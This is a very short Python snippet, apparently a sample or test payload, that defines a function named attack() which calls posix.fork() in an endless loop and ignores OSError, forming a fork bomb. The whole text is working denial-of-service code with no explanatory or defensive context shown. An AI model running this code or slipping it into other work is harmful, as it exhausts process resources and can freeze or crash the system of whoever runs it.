# Forks for ever.
def attack():
    import posix

    while True:
        try:
            posix.fork()
        except OSError:
            pass
